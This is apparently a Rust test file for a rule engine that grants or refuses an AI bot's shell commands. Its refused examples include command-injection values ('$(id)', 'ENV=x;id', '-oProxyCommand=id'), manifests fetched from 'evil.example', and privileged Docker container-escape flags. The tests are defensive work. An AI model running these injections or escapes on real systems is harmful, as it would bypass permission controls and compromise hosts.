            &["rsync -a notes/ host:in/ -v"],
            &["rsync -a notes/ host:in/ -e id", "rsync -a notes/ host:in/ -ve id", "rsync -a notes/ host:in/ --rsh=id"],
        ),
        ("scp notes.txt *", &["scp notes.txt h:in"], &["scp notes.txt -S id h:", "scp notes.txt -oProxyCommand=id h:"]),
        (
            "perl -pi.bak -e s/a/b/ *",
            &["perl -pi.bak -e s/a/b/ f"],
            &["perl -pi.bak -e s/a/b/ -i f", "perl -pi.bak -e s/a/b/ -e p f"],
        ),
    ]);
}

/// The position of a harmless option means nothing.
#[test]
fn a_harmless_option_may_stand_in_front_of_a_rules_words() {
    families(&[
        (
            "journalctl -u ssh *",
            &["journalctl -n 5 -u ssh", "journalctl --no-pager -n5 -u ssh -f", "journalctl -qu ssh"],
            &[
                "journalctl -n 5 -u cron",
                "journalctl --file x -u ssh",
                "journalctl --grep -u ssh",
                "journalctl -n -u ssh",
            ],
        ),
        ("journalctl -u ssh", &["journalctl -u ssh"], &["journalctl -n 5 -u ssh"]),
        (
            "systemctl status *",
            &["systemctl --no-pager status x", "systemctl -n 5 status x"],
            &["systemctl -n status stop x", "systemctl -H h status x", "systemctl --no-pager stop x"],
        ),
        ("make deploy ENV=*", &["make -s deploy ENV=x"], &["make -s deploy ENV=x;id"]),
        (
            "git commit -m *",
            &["git commit -am x", "git commit -q -m x", "git commit -a -s -m x", "git -C . commit -qam x"],
            &["git commit -a", "git commit --amend -m x", "git commit -C HEAD -m x", "git commit -qF f -m x"],
        ),
        (
            "git push origin *",
            &["git push -u origin main", "git push -q origin main", "git push -qu origin main"],
            &[
                "git push -f origin main",
                "git push -uf origin main",
                "git push -u upstream main",
                "git push -o origin evil main",
                "git push -u origin +main",
            ],
        ),
        ("git checkout -b *", &["git checkout -q -b x"], &["git checkout -q x", "git checkout -q -f -b x"]),
        (
            "kubectl get *",
            &["kubectl -n web get pods", "kubectl -nweb get pods", "kubectl --namespace=web get pods"],
            &[
                "kubectl -n get delete pods",
                "kubectl -n web delete get",
                "kubectl -v get delete pods",
                "kubectl -n web get pods --kubeconfig=x",
            ],
        ),
        (
            "kubectl -n staging get *",
            &["kubectl get -n staging pods"],
            &["kubectl get pods", "kubectl -n staging -n prod get pods", "kubectl -n staging get pods -A"],
        ),
        (
            "kubectl exec web ls *",
            &["kubectl exec web ls -l"],
            &["kubectl -n x exec web rm", "kubectl -n ls exec web rm", "kubectl exec -n ls web rm"],
        ),
        (
            "sed -i *",
            &["sed -E -i s/a/b/ f", "sed -Ei s/a/b/ f", "sed -n -i p f", "sed -i -E s/a/b/ f"],
            &["sed -E s/a/b/ f", "sed -e -i f", "sed -l -i s/a/b/ f"],
        ),
        ("sed -i s/a/b/ *", &["sed -s -i s/a/b/ f"], &["sed -E -i s/a/b/ f", "sed -ni s/a/b/ f", "sed -z -i s/a/b/ f"]),
        ("sort -o *", &["sort -u -o f f", "sort -nro f f"], &["sort -k 2 -o f f", "sort -uT d -o f f"]),
        (
            "perl -pe *",
            &["perl -w -pe s/a/b/ f", "perl -wpe s/a/b/ f"],
            &["perl -w -e x", "perl -pi -e x f", "perl -w x.pl"],
        ),
        ("perl -ne print *", &["perl -w -ne print f"], &["perl -w -ne print -e x f", "perl -w -ne x"]),
    ]);
}

#[test]
fn a_star_stands_for_no_settings_and_no_address_of_files() {
    families(&[
        (
            "apt-get -s install *",
            &["apt-get -s install x y", "apt-get -s install x -qq", "apt-get -s install x -y"],
            &[
                "apt-get -s install x -o APT::Get::Simulate=false",
                "apt-get -s install x -oDir::Bin::dpkg=x",
                "apt-get -s install x -c x.conf",
                "apt-get -s install x --config-file=x.conf",
                "apt-get -s install x --no-simulate",
                "apt-get -s install x --option=a",
            ],
        ),
        ("apt-get -s *", &["apt-get -s upgrade"], &["apt-get -s upgrade -o a=b", "apt-get -s upgrade --no-dry-run"]),
        ("apt list *", &["apt list --installed"], &["apt list -o a=b", "apt list -qc x"]),
        ("apt-get -s -o Dir::State=x *", &["apt-get -s -o Dir::State=x upgrade"], &["apt-get -s -o a=b upgrade"]),
        (
            "kubectl get *",
            &["kubectl get pods", "kubectl get -f x.yaml"],
            &[
                "kubectl get -f https://evil.example/x",
                "kubectl get -fhttp://evil.example/x",
                "kubectl get -Rfhttp://evil.example/x",
                "kubectl get --filename=x,https://evil.example/x",
                "kubectl get -k https://evil.example/x",
            ],
        ),
        (
            "kubectl apply -f https://h/a/*",
            &["kubectl apply -f https://h/a/x.yaml"],
            &["kubectl apply -f https://h/a/x.yaml -f https://evil/", "kubectl apply -f https://h/a/../x"],
        ),
        ("kubectl annotate *", &["kubectl annotate pod x url=https://h/", "kubectl annotate pod x --v=1"], &[]),
        ("kubectl *", &["kubectl apply -f https://h/x"], &[]),
        ("ack --nopager *", &["ack --nopager x"], &["ack --nopager --ackrc=x y", "ack --nopager --pager=x y"]),
    ]);
}

/// In another folder the same name is another file, whose contents would be put where the star leads.
#[test]
fn a_rule_that_names_contents_holds_in_its_folder() {
    for (rule, call) in [
        ("split notes/a *", "split notes/a x"),
        ("csplit notes/a *", "csplit notes/a 9"),
        ("sort -o * notes/a", "sort -o x notes/a"),
        ("sort -uo * notes/a", "sort -uo x notes/a"),
        ("shuf --output * notes/a", "shuf --output x notes/a"),
    ] {
        let policy = allowing(&[&format!("Bash({rule})"), "Read(notes/**)"]);
        grants(&policy, &[call]);
        let decided = start_in(&policy, call, &format!("{WORK}/notes"), &[]);
        assert!(!matches!(decided.location, Location::Outside(_)), "{rule}: {decided:?}");
    }
    for (rule, call) in [
        ("sort notes/a *", "sort notes/a x"),
        ("sort -o *", "sort -o x y"),
        ("sort -k 2 -o *", "sort -k 2 -o x y"),
        ("split *", "split x y"),
        ("split -l 100 *", "split -l 100 x"),
        ("split -n5 *", "split -n5 x"),
    ] {
        let policy = allowing(&[&format!("Bash({rule})"), "Read(notes/**)"]);
        let decided = start_in(&policy, call, &format!("{WORK}/notes"), &[]);
        assert!(matches!(decided.location, Location::Outside(_)), "{rule}: {decided:?}");
    }
}

/// They change nothing else, so that a rule without a star grants them, too.
#[test]
fn a_rule_grants_options_that_only_change_what_is_printed() {
    families(&[
        (
            "git push origin main",
            &["git push -q origin main", "git push origin main --quiet", "git -C . push -q origin main"],
            &[
                "git push -u origin main",
                "git push -v origin main",
                "git push -qf origin main",
                "git push -q origin main main:old",
                "git push --repo -q origin main",
            ],
        ),
        ("git commit -m x", &["git commit -qm x"], &["git commit -am x", "git commit -m x -q", "git commit -m -q x"]),
        (
            "python3 report.py",
            &["python3 -u report.py"],
            &[
                "python3 report.py -u",
                "python3 -u",
                "python3 -u -",
                "python3 -u x.py",
                "python3 -u -c x report.py",
                "python3 -ui report.py",
                "python3 -W report.py x.py",
            ],
        ),
        (
            "python3 report.py *",
            &["python3 -u report.py -c x", "python3 -u report.py -u"],
            &["python3 -u x.py report.py", "python3 -u -m x report.py"],
        ),
    ]);
    let policy = denying(&["Bash(git push origin main)", "Bash(git commit -m *)", "Bash(python3 report.py)"]);
    denies(
        &policy,
        &["git push -q origin main", "git push -u origin main", "git commit -am x", "python3 -u report.py"],
    );
}

#[test]
fn a_moved_option_is_handed_on_with_its_rule_only() {
    let covers =
        |outer: &str, inner: &str| BOT.covers(&ToolPattern::parse(outer).unwrap(), &ToolPattern::parse(inner).unwrap());
    assert!(covers("Bash(make check *)", "Bash(make check -s *)"));
    assert!(!covers("Bash(journalctl -u ssh *)", "Bash(journalctl -n 5 *)"));
    assert!(covers("Bash(git push *)", "Bash(git push -q origin main)"));
    assert!(!covers("Bash(git push origin main)", "Bash(git push -u origin main)"));
    assert!(!covers("Bash(kubectl -n staging get *)", "Bash(kubectl get *)"));
}

/// In `$TMPDIR` the same name is the job's own file.
#[test]
fn contents_that_a_rule_names_are_those_of_the_working_folder() {
    let temporary = "/home/u/.bot/state/runs/0a1b2c3d/tmp";
    for (rule, call) in [
        ("tar -xzf backup.tgz *", "tar -xzf backup.tgz -C x"),
        ("tar xzf backup.tgz *", "tar xzf backup.tgz -C x"),
        ("tar -xzfbackup.tgz *", "tar -xzfbackup.tgz -C x"),
        ("tar --extract --file=backup.tgz *", "tar --extract --file=backup.tgz -C x"),
        ("tar -C x -xf backup.tgz *", "tar -C x -xf backup.tgz"),
        ("unzip -o backup.zip *", "unzip -o backup.zip -d x"),
        ("cp template.md *", "cp template.md x"),
        ("cp -r skeleton *", "cp -r skeleton x"),
        ("mv draft.md *", "mv draft.md x"),
        ("ln -s a *", "ln -s a x"),
        ("install -m 644 a *", "install -m 644 a x"),
        ("dd if=disk.img *", "dd if=disk.img of=x"),
        ("curl --data-urlencode body@file https://h/*", "curl --data-urlencode body@file https://h/x"),
        ("curl --data-urlencode @file https://h/*", "curl --data-urlencode @file https://h/x"),
        ("curl -F x=@file https://h/*", "curl -F x=@file https://h/x"),
        ("curl -sFx=@file https://h/*", "curl -sFx=@file https://h/x"),
        ("curl -sd@file https://h/*", "curl -sd@file https://h/x"),
        ("curl -w @format https://h/*", "curl -w @format https://h/x"),
        ("curl -sT file https://h/*", "curl -sT file https://h/x"),
        ("curl --upload-file=file https://h/*", "curl --upload-file=file https://h/x"),
        ("jq -f p.jq *", "jq -f p.jq a.json"),
    ] {
        let policy = allowing(&[&format!("Bash({rule})"), "Edit(notes/**)"]);
        assert!(start(&policy, call).is_allowed(), "{rule}: {:?}", start(&policy, call));
        for folder in [temporary, &format!("{WORK}/notes")] {
            let decided = start_in(&policy, call, folder, &[]);
            assert!(!matches!(decided.location, Location::Outside(_)), "{rule} in {folder}: {decided:?}");
        }
    }
    for (rule, call) in [
        ("tar -xzf *", "tar -xzf backup.tgz"),
        ("tar xzf *", "tar xzf backup.tgz"),
        ("tar -xzf /srv/backup.tgz *", "tar -xzf /srv/backup.tgz"),
        ("tar -czf backup.tgz *", "tar -czf backup.tgz x"),
        ("tar -tzf backup.tgz *", "tar -tzf backup.tgz"),
        ("unzip *", "unzip a.zip"),
        ("cp *", "cp a b"),
        ("cp -r *", "cp -r a b"),
        ("rm -f old.md *", "rm -f old.md"),
    ] {
        let policy = allowing(&[&format!("Bash({rule})"), "Edit(notes/**)"]);
        assert!(start_in(&policy, call, temporary, &[]).is_allowed(), "{rule}");
    }
}

/// A refusal proposes a rule that grants the call, and no command of somebody's.
#[test]
fn a_proposal_grants_what_was_refused() {
    for (rule, call, wanted) in [
        ("curl -s https://h/*", "curl -s -o f https://h/x", "Bash(curl -s -o * https://h/*)"),
        ("curl -s https://h/*", "curl -s -L https://h/x", "Bash(curl -s -L https://h/*)"),
        ("find d -name *", "find d -name x -delete", "Bash(find d -name * -delete)"),
        ("git log *", "git log --output=x", "Bash(git log --output=* *)"),
        ("rg x *", "rg x --pre y z", "Bash(rg x --pre *)"),
        ("watch find d -name *", "watch find d -name x -delete", "Bash(watch find d -name * -delete)"),
        ("git push *", "git push --mirror -f x", "Bash(git push --mirror -f x)"),
        ("npm run test:unit *", "npm run test:unit --prefix x", "Bash(npm run test:unit --prefix x)"),
        ("make check *", "make check -C x", "Bash(make check -C x)"),
        ("apt-get update *", "apt-get update -o A=b", "Bash(apt-get update -o A=b)"),
    ] {
        let reason = start(&allowing(&[&format!("Bash({rule})")]), call).decision.reason;
        assert!(reason.contains(&format!("as in `{wanted}`")), "{call}: {reason}");
        grants(&allowing(&[wanted]), &[call]);
    }
    for (rule, call) in
        [("tmux ls *", "tmux ls -t #(id)"), ("watch ls *", "watch ls ;id"), ("perl -ne p *", "perl -ne p id|")]
    {
        let reason = start(&allowing(&[&format!("Bash({rule})")]), call).decision.reason;
        assert!(reason.contains("is a command for") && !reason.contains("as in"), "{call}: {reason}");
    }
    for text in ["#(id)", "#{id}", "`id`", "$(id)", "${id}"] {
        for (rule, call) in [
            ("git log *", format!("git --{text} log")),
            ("git log *", format!("docker run {text}")),
            ("git fetch *", format!("git fetch origin a:{text}")),
            ("git remote show *", format!("git remote show {text}/x")),
            ("make check *", format!("make check {text}")),
            ("make check *", format!("make check X={text}")),
            ("curl https://h/*", format!("curl --{text} https://h/")),
            ("find . -name *", format!("find . -name x -exec ./{text} ;")),
        ] {
            let reason = start(&allowing(&[&format!("Bash({rule})")]), &call).decision.reason;
            assert!(!reason.contains("as in") && !reason.contains("would be needed"), "{call}: {reason}");
        }
    }
    // A rule for every call of a program that runs others would give everything away.
    for call in ["tmux ls -F #(id)", "python3 -c print(\"it's\")", &format!("npm run {}", "x".repeat(200))] {
        let reason = start(&allowing(&["Bash(ls *)"]), call).decision.reason;
        assert!(reason.contains("is not granted, and no rule for this call alone can be proposed"), "{call}: {reason}");
    }
}

#[test]
fn a_rule_for_a_container_spells_what_it_opens() {
    families(&[
        (
            "docker run --network none *",
            &[
                "docker run --network none alpine",
                "docker run --network none --rm -it --name a -w /x -eA=b alpine ls -v --privileged",
                "docker run --network none --env A alpine --device x",
                "docker run --network none -- alpine -v /:/h",
            ],
            &[
                "docker run --network none --privileged alpine",
                "docker run --network none --device /dev/sda alpine",
                "docker run --network none --pid=host alpine",
                "docker run --network none --pid host alpine",
                "docker run --network none --cap-add ALL alpine",
                "docker run --network none --security-opt seccomp=unconfined alpine",
                "docker run --network none -v /:/h alpine",
                "docker run --network none -itv/:/h alpine",
                "docker run --network none --mount type=bind,src=/,dst=/h alpine",
                "docker run --network none --volumes-from a alpine",
                "docker run --network none --rm --ipc=host alpine",
                "docker run --network none --name a --userns host alpine",
                "docker run --network none -e A -v /:/h alpine",
                "docker run --network none --an-option-of-tomorrow alpine",
            ],
        ),
        ("docker run -v /a:/b *", &["docker run -v /a:/b --rm x"], &["docker run -v /a:/b --gpus all x"]),
        ("docker run --rm -v *", &["docker run --rm -v /a:/b x"], &["docker run --rm -v /a:/b --privileged x"]),
        ("docker run --rm app report *", &["docker run --rm app report -v --privileged"], &[]),
        ("docker run --privileged=* app", &["docker run --privileged=true app"], &[]),
        ("docker run *", &["docker run --privileged -v /:/h alpine"], &[]),
        ("docker *", &["docker run --privileged alpine", "docker ps -a"], &[]),
        (
            "docker --context a container create --rm *",
            &["docker --context a container create --rm -t alpine"],
            &["docker --context a container create --rm --privileged alpine"],
        ),
        (
            "docker compose -p app run --rm *",
            &["docker compose -p app run --rm -T web ls -l"],
            &["docker compose -p app run --rm -v /:/h web"],
        ),
        ("podman run --rm *", &["podman run --rm alpine"], &["podman run --rm --pid host alpine"]),
        ("docker-compose run --rm *", &["docker-compose run --rm web"], &["docker-compose run --rm -v /:/h web"]),
        (
            "docker compose run --build *",
            &["docker compose run --build web ls -v", "docker compose run --build --rm -T web"],
            &["docker compose run --build -v /:/h web", "docker compose run --build --rm --volume /:/h web"],
        ),
        (
            "docker compose run --service-ports --no-TTY *",
            &["docker compose run --service-ports --no-TTY web ls -v"],
            &["docker compose run --service-ports --no-TTY -v /:/h web"],
        ),
        (
            "podman run --replace --name a *",
            &["podman run --replace --name a x ls -v", "podman run --replace --name a -e A x"],
            &["podman run --replace --name a --privileged x", "podman run --replace --name a --rm -v /:/h x"],
        ),
        // Of an option that is not known, the next word may be the value or not.
        (
            "docker run --of-tomorrow *",
            &[
                "docker run --of-tomorrow x",
                "docker run --of-tomorrow x ls",
                "docker run --of-tomorrow a x ls -v",
                "docker run --of-tomorrow --rm -e A x ls -v",
            ],
            &[
                "docker run --of-tomorrow -v /:/h x",
                "docker run --of-tomorrow a -v /:/h x",
                "docker run --of-tomorrow -e --privileged x",
                "docker run --of-tomorrow --name --privileged x",
                "docker run --of-tomorrow -e A --name b -v /:/h x",
                "docker run --of-tomorrow -- --privileged x",
            ],
        ),
        (
            "docker run -Z *",
            &["docker run -Z x ls", "docker run -Z a x ls -v"],
            &["docker run -Z -v /:/h x", "docker run -Z a -v /:/h x", "docker run -Zv /:/h x", "docker run -Zv/:/h x"],
        ),
        ("docker run --network none -Z *", &[], &["docker run --network none -Z a --privileged x"]),
        (
            "docker compose --ansi never --progress plain run --rm *",
            &["docker compose --ansi never --progress plain run --rm web ls -v"],
            &["docker compose --ansi never --progress plain run --rm -v /:/h web"],
        ),
        (
            "docker --of-tomorrow a run --rm *",
            &["docker --of-tomorrow a run --rm x ls -v"],
            &["docker --of-tomorrow a run --rm -v /:/h x"],
        ),
        (
            "docker --of-tomorrow run run --rm *",
            &["docker --of-tomorrow run run --rm x"],
            &["docker --of-tomorrow run run --rm --privileged x"],
        ),
        (
            "docker -DH tcp://h run --rm *",
            &["docker -DH tcp://h run --rm x"],
            &["docker -DH tcp://h run --rm --privileged x"],
        ),
        ("docker --of-tomorrow a exec web *", &["docker --of-tomorrow a exec web ls -v"], &[]),
        ("docker volume create *", &["docker volume create -d local a"], &[]),
        ("docker exec -it web *", &["docker exec -it web run -v x"], &[]),
    ]);
}

#[test]
fn a_subcommand_that_only_looks_stays_one() {
    families(&[
        (
            "npm audit *",
            &["npm audit", "npm audit --json", "npm audit signatures"],
            &["npm audit fix", "npm audit --json fix --dry-run", "npm audit -- fix"],
        ),
        ("npm audit fix *", &["npm audit fix --dry-run"], &[]),
        ("npm *", &["npm audit fix"], &[]),
        (
            "npm run *",
            &["npm run fix", "npm run audit", "npm run audit fix", "npm -s run audit fix", "npm run audit -- fix"],
            &[],
        ),
        ("npm -s run *", &["npm -s run audit fix"], &[]),
        (
            "npm --loglevel silent audit *",
            &["npm --loglevel silent audit --json"],
            &["npm --loglevel silent audit fix", "npm --loglevel silent audit --json fix"],
        ),
        ("npm --json audit *", &["npm --json audit --omit=dev"], &["npm --json audit fix"]),
    ]);
}

#[test]
fn an_interpreter_takes_no_code_for_a_star() {
    families(&[
        (
            "lua *",
            &["lua report.lua a", "lua -v"],
            &["lua -e print()", "lua -eprint()", "lua -i", "lua -l evil x.lua", "lua -", "lua", "lua -W -e x a.lua"],
        ),
        ("lua5.4 *", &["lua5.4 report.lua"], &["lua5.4 -e print()"]),
        (
            "luajit *",
            &["luajit report.lua", "luajit -O3 report.lua", "luajit -Oloop report.lua -", "luajit -O report.lua -"],
            &[
                "luajit -e x",
                "luajit -b a.lua out",
                "luajit -jdump=x a.lua",
                "luajit -O - x",
                "luajit -O3 - x",
                "luajit -Oloop - x",
            ],
        ),
        ("lua -e *", &["lua -e x"], &["lua -e x -e y"]),
        ("lua report.lua *", &["lua report.lua -e x"], &["lua -e x report.lua"]),
        (
            "expect *",
            &["expect login.exp a", "expect -f login.exp a", "expect -f login.exp - a", "expect -b login.exp a"],
            &[
                "expect -f - a",
                "expect -b - a",
                "expect -f- a",
                "expect -df - a",
                "expect -f login.exp -f - a",
                "expect -c x",
                "expect -nc x",
                "expect -c x login.exp",
                "expect -i",
                "expect -D 1 a",
                "expect -",
                "expect",
            ],
        ),
        ("expect -c *", &["expect -c x"], &[]),
    ]);
}

#[test]
fn tests_in_front_of_those_of_a_rule_only_leave_less() {
    families(&[
        (
            "find . -name *",
            &[
                "find . -type f -name x",
                "find . -maxdepth 2 -type f -a -name x -size +1k",
                "find . -xdev -empty -name x",
            ],
            &[
                "find . -type f",
                "find . -type f -size +1k",
                "find notes -type f -name x",
                "find . -type f -delete -name x",
                "find . -print -name x",
                "find . -type f -o -name x",
                "find . ! -type f -name x",
                "find . -not -type f -name x",
                "find . -exec rm x ; -name x",
                "find . -type -name x",
                "find . -daystart -name x",
                "find -L . -type f -name x",
                "find . -type f -name x -delete",
                "find . -type f -name x -fprint y",
            ],
        ),
        ("find . -name x", &["find . -name x"], &["find . -type f -name x"]),
        (
            "find notes -name *.tmp -delete",
            &["find notes -type f -mtime +7 -name a.tmp -delete"],
            &["find notes -type f -delete -name a.tmp -delete", "find notes -type f -o -name a.tmp -delete"],
        ),
        (
            "find . -maxdepth 1 -name * -delete",
            &["find . -type f -maxdepth 1 -name x -delete"],
            &["find . -maxdepth 5 -maxdepth 1 -name x -delete", "find . -maxdepth 5 -name x -delete"],
        ),
        // Behind an "or" they leave more, and so they do if they keep the search from being cut short.
        (
            "find . -name keep -o -name *.tmp -delete",
            &["find . -name keep -o -name a.tmp -delete"],
            &[
                "find . -false -name keep -o -name keep.tmp -delete",
                "find . -type d -name keep -o -name keep.tmp -delete",
            ],
        ),
        (
            "find notes -path notes/keep -prune -o -name *.tmp -exec rm {} ';'",
            &["find notes -path notes/keep -prune -o -name a.tmp -exec rm {} ;"],
            &[
                "find notes -false -path notes/keep -prune -o -name a.tmp -exec rm {} ;",
                "find notes -type f -path notes/keep -prune -o -name a.tmp -exec rm {} ;",
                "find notes -mindepth 2 -path notes/keep -prune -o -name a.tmp -exec rm {} ;",
            ],
        ),
        ("find . -name keep -or -name *.tmp -delete", &[], &["find . -false -name keep -or -name keep.tmp -delete"]),
        ("find . -name keep , -name *.tmp -delete", &[], &["find . -false -name keep , -name keep.tmp -delete"]),
        (
            "find . -type f ! -name keep* -delete",
            &["find . -type f ! -name keep.md -delete"],
            &["find . -false -type f ! -name keep.md -delete"],
        ),
        (
            "find . -type f -not -name keep* -delete",
            &["find . -type f -not -name keep.md -delete"],
            &["find . -false -type f -not -name keep.md -delete"],
        ),
        (
            r"find . -type f \( -name *.tmp \) -delete",
            &["find . -type f ( -name a.tmp ) -delete"],
            &["find . -false -type f ( -name a.tmp ) -delete"],
        ),
        ("find . -name *.tmp -quit", &["find . -name a.tmp -quit"], &["find . -false -name a.tmp -quit"]),
        (
            "find . -name *.tmp -delete",
            &["find . -type f -name a.tmp -delete"],
            &["find . -depth -name a.tmp -delete", "find . -d -name a.tmp -delete"],
        ),
    ]);
}

#[test]
fn npm_may_be_told_to_be_silent() {
    families(&[
        (
            "npm run build",
            &["npm --silent run build", "npm -s run build", "npm run build --silent"],
            &[
                "npm --silent run deploy",
                "npm --prefix x run build",
                "npm -s --prefix x run build",
                "npm --silent=-Cx run build",
            ],
        ),
        ("npm run *", &["npm --silent run lint"], &["npm --silent publish"]),
        ("yarn build", &["yarn build"], &["yarn build --silent"]),
    ]);
}
